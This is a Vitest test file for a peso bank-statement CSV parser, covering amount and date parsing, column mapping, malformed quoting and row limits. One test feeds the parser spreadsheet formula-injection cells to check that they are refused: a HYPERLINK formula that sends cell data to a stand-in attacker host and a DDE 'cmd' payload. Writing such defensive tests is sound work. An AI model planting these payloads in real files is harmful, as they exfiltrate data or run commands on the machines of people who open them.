import { describe, expect, it } from 'vitest';
import { statementImportInputSchema, type StatementMapping } from '../forms/statement-import.ts';
import { parseStatementCsv, statementAmount, statementColumns, statementDate } from './statement-csv.ts';

const GCASH: StatementMapping = {
  dateColumn: 'Date',
  amountColumn: 'Credit',
  textColumn: 'Description',
  dateFormat: 'YYYY-MM-DD',
};
const file = (...lines: string[]) => lines.join('\r\n');
const HEADER = 'Date,Description,Debit,Credit,Balance';

describe('statementAmount', () => {
  it.each([
    ['1234.5', 1234.5],
    ['1,234.50', 1234.5],
    ['12,345,678', 12_345_678],
    [' PHP 9,000.00 ', 9000],
    ['₱500', 500],
    ['-500.00', -500],
    ['(1,234.50)', -1234.5],
    ['+250', 250],
  ])('should read %j as %d', (cell, amount) => {
    expect(statementAmount(cell)).toBe(amount);
  });

  it.each(['', '  ', '-'])('should read %j as no amount', (cell) => {
    expect(statementAmount(cell)).toBeNull();
  });

  it.each(['1.234,50', '1,23.00', '12,3456', '1234.567', 'abc', '1 234', '12.', '=1+1'])(
    'should refuse %j as an amount',
    (cell) => {
      expect(statementAmount(cell)).toBeNaN();
    },
  );
});

describe('statementDate', () => {
  it.each([
    ['2026-11-20', 'YYYY-MM-DD', '2026-11-20'],
    ['2026-11-20 14:05:33', 'YYYY-MM-DD', '2026-11-20'],
    ['2026-11-20T14:05', 'YYYY-MM-DD', '2026-11-20'],
    ['11/20/2026', 'MM/DD/YYYY', '2026-11-20'],
    ['3/5/2026 2:05 PM', 'MM/DD/YYYY', '2026-03-05'],
    ['20/11/2026', 'DD/MM/YYYY', '2026-11-20'],
  ] as const)('should read %j written as %s', (cell, format, day) => {
    expect(statementDate(cell, format)).toBe(day);
  });

  it.each([
    ['20/11/2026', 'MM/DD/YYYY'],
    ['2026-02-30', 'YYYY-MM-DD'],
    ['11/20/26', 'MM/DD/YYYY'],
    ['Nov 20, 2026', 'MM/DD/YYYY'],
    ['2026-11-20 later', 'YYYY-MM-DD'],
  ] as const)('should refuse %j written as %s', (cell, format) => {
    expect(statementDate(cell, format)).toBeNull();
  });
});

describe('statementColumns', () => {
  it('should read the first row that is not blank, its names trimmed and blanks left out', () => {
    expect(statementColumns(file('', ' , ', ' Date , Memo,,Amount', '2026-11-20,x,,1'))).toEqual([
      'Date',
      'Memo',
      'Amount',
    ]);
  });
});

describe('parseStatementCsv', () => {
  it('should read every row with the mapped columns, in any case, skipping blank rows', () => {
    const text = file(
      ' date ,DESCRIPTION,Debit,credit,Balance',
      '2026-11-20 09:15,Payment rc kx7p2m9q,,"9,000.00","19,000.00"',
      '',
      '2026-11-21,Cash out,500.00,,"18,500.00"',
      '2026-11-22,"Memo, with a comma",,-,"18,500.00"',
    );
    expect(parseStatementCsv(text, GCASH)).toEqual({
      ok: true,
      rows: [
        { line: 2, date: '2026-11-20', amount: 9000, text: 'Payment rc kx7p2m9q' },
        { line: 4, date: '2026-11-21', amount: 0, text: 'Cash out' },
        { line: 5, date: '2026-11-22', amount: 0, text: 'Memo, with a comma' },
      ],
    });
  });

  it('should refuse a header without a mapped column, naming the columns it has', () => {
    const result = parseStatementCsv(file('Posted,Memo,Amount', '2026-11-20,x,1'), GCASH);
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          line: 1,
          reason:
            'The file has no column “Date”; its columns are “Posted”, “Memo”, “Amount”; ' +
            'The file has no column “Credit”; its columns are “Posted”, “Memo”, “Amount”; ' +
            'The file has no column “Description”; its columns are “Posted”, “Memo”, “Amount”',
        },
      ],
    });
  });

  it('should refuse two columns of the same name, an empty file and a header alone', () => {
    expect(parseStatementCsv(file('Date,Credit,credit,Description', '2026-11-20,1,2,x'), GCASH)).toMatchObject({
      problems: [{ line: 1, reason: 'Two columns are named “Credit”: rename one' }],
    });
    expect(parseStatementCsv('\r\n\r\n', GCASH)).toMatchObject({
      problems: [{ line: 1, reason: 'The file is empty' }],
    });
    expect(parseStatementCsv(file('', HEADER), GCASH)).toMatchObject({
      problems: [{ line: 2, reason: 'The file has no rows under its header row' }],
    });
  });

  it('should refuse bad dates and amounts with their line and every reason', () => {
    const text = file(
      HEADER,
      '2026-11-20,RC-KX7P2M9Q,,9000,1',
      '11/21/2026,RC-KX7P2M9Q,,"1.234,50",1',
      ',Fee,,12.345,1',
      '2026-02-30,x,,1,1',
    );
    expect(parseStatementCsv(text, GCASH)).toEqual({
      ok: false,
      problems: [
        {
          line: 3,
          reason:
            'The date “11/21/2026” is not a day written as YYYY-MM-DD; ' +
            'The amount “1.234,50” is not an amount in pesos like 1234.50 or 1,234.50',
        },
        {
          line: 4,
          reason: 'The date is empty; The amount “12.345” is not an amount in pesos like 1234.50 or 1,234.50',
        },
        { line: 5, reason: 'The date “2026-02-30” is not a day written as YYYY-MM-DD' },
      ],
    });
  });

  it('should say when an unquoted thousands comma split the amount in two', () => {
    const result = parseStatementCsv(file(HEADER, '2026-11-20,RC-KX7P2M9Q,,9,000.00,', '2026-11-20,x,y,1,2,3'), GCASH);
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          line: 2,
          reason:
            'The row has 6 fields where the header has 5: the amount 9,000.00 seems split at its thousands comma: ' +
            'put it in quotes (“9,000.00”) or save the file without thousands separators',
        },
        { line: 3, reason: 'The row has 6 fields where the header has 5' },
      ],
    });
  });

  it('should refuse a cell a spreadsheet would run as a formula, in any column, but not a signed amount', () => {
    const text = file(
      HEADER,
      '2026-11-20,"=HYPERLINK(""http://evil.example/?x=""&A1)",,1,1',
      '2026-11-20,@SUM(A1:A9),,1,-1,234.00',
      '2026-11-20,Refund,"-1,234.00",,"-1,234.00"',
      "2026-11-20,+cmd|' /C calc'!A0,,1,1",
      '2026-11-20,\tTab,,1,1',
      '2026-11-20,-,,1,-',
    );
    const result = parseStatementCsv(text, GCASH);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.problems).toEqual([
      {
        line: 2,
        reason:
          'The cell “=HYPERLINK("http://evil.examp…” in column “Description” starts with “=”, which a spreadsheet runs as a formula: take it out',
      },
      {
        line: 3,
        reason:
          'The row has 6 fields where the header has 5; The cell “@SUM(A1:A9)” in column “Description” starts with “@”, which a spreadsheet runs as a formula: take it out',
      },
      {
        line: 5,
        reason:
          "The cell “+cmd|' /C calc'!A0” in column “Description” starts with “+”, which a spreadsheet runs as a formula: take it out",
      },
      {
        line: 6,
        reason:
          'The cell “Tab” in column “Description” starts with a tab, which a spreadsheet runs as a formula: take it out',
      },
    ]);
  });

  it('should refuse a broken quote with its line, and a header cell that is a formula', () => {
    expect(parseStatementCsv(file(HEADER, '2026-11-20,"x"y,,1,1'), GCASH)).toMatchObject({
      problems: [{ line: 2, reason: 'Text follows a closing quote on line 2; quote the whole field' }],
    });
    expect(parseStatementCsv(file('Date,Description,Credit,=1+1', '2026-11-20,x,1,1'), GCASH)).toMatchObject({
      problems: [
        {
          line: 1,
          reason: 'The cell “=1+1” in column 4 starts with “=”, which a spreadsheet runs as a formula: take it out',
        },
      ],
    });
  });

  it('should name at most 50 lines, then count the rest, and refuse more than 10,000 rows', () => {
    const bad = file(HEADER, ...Array.from({ length: 60 }, () => 'someday,x,,1,1'));
    const result = parseStatementCsv(bad, GCASH);
    expect(!result.ok && result.problems).toHaveLength(51);
    expect(!result.ok && result.problems.at(-1)).toEqual({
      line: 52,
      reason: '10 more lines have problems too: fix these first',
    });
    const long = file(HEADER, ...Array.from({ length: 10_001 }, () => '2026-11-20,x,,1,1'));
    expect(parseStatementCsv(long, GCASH)).toEqual({
      ok: false,
      problems: [{ line: 10_002, reason: 'A statement may have at most 10,000 rows: split the file' }],
    });
  });
});

describe('statementImportInputSchema', () => {
  it('should ask for the channel, each column and the date format, each once', () => {
    const result = statementImportInputSchema.safeParse({
      channel: '',
      dateColumn: ' ',
      amountColumn: '',
      textColumn: '',
    });
    expect(result.success).toBe(false);
    expect(Object.fromEntries(result.error!.issues.map((issue) => [issue.path.join('.'), issue.message]))).toEqual({
      channel: 'Choose the payment channel of the statement',
      dateColumn: 'Choose the column that holds the date',
      amountColumn: 'Choose the column that holds the amount',
      textColumn: 'Choose the column that holds the reference or memo',
      dateFormat: 'Choose how the dates are written',
    });
  });

  it('should refuse one column chosen for two things', () => {
    const result = statementImportInputSchema.safeParse({ channel: 'GCash', ...GCASH, amountColumn: 'date ' });
    expect(result.error?.issues.map((issue) => [issue.path.join('.'), issue.message])).toEqual([
      ['amountColumn', 'Choose a column of its own for the date, the amount and the memo'],
    ]);
  });
});
